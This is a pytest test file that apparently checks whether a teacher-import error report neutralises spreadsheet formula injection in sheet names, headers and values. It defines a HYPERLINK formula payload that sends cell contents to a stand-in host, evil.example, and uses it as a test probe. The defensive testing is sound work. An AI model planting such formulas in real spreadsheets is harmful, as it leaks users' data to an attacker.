"""The import's error report never carries a live formula (issue 14, finding 5): sheet
names, column headers and values are copied from the upload into it, and a spreadsheet
runs a cell starting with = + - @ (or a tab or carriage return before one)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook

from jiaozi.core.spreadsheet import FORMULA_START
from jiaozi.teachers.importing.errors import RowError, report_csv, report_xlsx
from jiaozi.teachers.services import teacher_import
from jiaozi.teachers.tests.workbook import TemplateBook

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'


def _csv_cells(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def _xlsx_cells(body: bytes) -> list[tuple[object, str]]:
    sheet = load_workbook(io.BytesIO(body)).active
    assert sheet is not None
    return [(cell.value, cell.data_type) for row in sheet.iter_rows() for cell in row]


def _assert_inert(body_csv: bytes, body_xlsx: bytes) -> None:
    for row in _csv_cells(body_csv):
        for text in row:
            assert not text.startswith(FORMULA_START), text
    for value, kind in _xlsx_cells(body_xlsx):
        assert kind != "f", value
        if isinstance(value, str):
            assert not value.startswith(FORMULA_START), value


def test_sheet_names_and_headers_from_the_upload_stay_text(tmp_path: Path) -> None:
    """The probe of the report: a CSV named like a formula (an unknown sheet) and a
    formula as a column header (listed twice: a duplicate header)."""
    book = TemplateBook()
    book.teacher()
    folder = book.write_csv(tmp_path / "csv")
    teachers = folder / "教师.csv"
    lines = teachers.read_text(encoding="utf-8").splitlines()
    lines[0] += f',"{LINK.replace(chr(34), chr(34) * 2)}","{LINK.replace(chr(34), chr(34) * 2)}"'
    teachers.write_text("\n".join(lines) + "\n", encoding="utf-8")
    (folder / "=1+2.csv").write_text("a\n1\n", encoding="utf-8")

    result = teacher_import(actor=None, file=folder)

    assert not result.ok
    assert {e.sheet for e in result.errors} >= {"=1+2"}
    assert LINK in {e.column for e in result.errors}
    body_csv, body_xlsx = report_csv(result.errors), report_xlsx(result.errors)
    _assert_inert(body_csv, body_xlsx)
    # Still readable: the text is there, after the apostrophe.
    assert [row[0] for row in _csv_cells(body_csv) if row[0].endswith("=1+2")] == ["'=1+2"]
    assert "'" + LINK in {value for value, _kind in _xlsx_cells(body_xlsx)}


@pytest.mark.parametrize("start", FORMULA_START)
def test_every_text_cell_of_the_report_is_neutralised(start: str) -> None:
    text = start + "SUM(1,2)"
    errors = [RowError(text, 3, text, text, text), RowError(text, None, "", "", "原因")]

    body_csv, body_xlsx = report_csv(errors), report_xlsx(errors)

    _assert_inert(body_csv, body_xlsx)
    rows = _csv_cells(body_csv)
    assert rows[1] == ["'" + text, "3", "'" + text, "'" + text, "'" + text]
    assert rows[2][:2] == ["'" + text, ""]
    # (XML reads a carriage return back as a line feed.)
    assert ("'" + text.replace("\r", "\n"), "s") in _xlsx_cells(body_xlsx)
    assert (3, "n") in _xlsx_cells(body_xlsx)  # numbers stay numbers
